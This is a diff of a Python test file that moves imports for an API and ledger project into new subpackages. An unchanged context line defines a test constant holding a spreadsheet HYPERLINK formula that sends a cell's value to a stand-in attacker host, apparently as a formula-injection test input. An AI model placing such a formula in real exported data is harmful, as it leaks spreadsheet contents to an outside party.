@@ -15,16 +15,16 @@ from typing import Any
 import pytest
 from fastapi.testclient import TestClient
 
-from api import paging
-from api.demo import build_demo
-from api.district import CHAIN
-from api.runtime import Node
-from api.server import create_app
-from api.serving import open_exchange_node
-from api.simulation import derive_key
+from api.demo.build import build_demo
+from api.demo.district import CHAIN
+from api.demo.simulation import derive_key
+from api.node import paging
+from api.node.runtime import Node
+from api.server.app import create_app
+from api.server.serving import open_exchange_node
 from exchange import records as R
-from ledger.keys import SigningKey
-from ledger.record import Record, sign_body
+from ledger.crypto.keys import SigningKey
+from ledger.wire.record import Record, sign_body
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
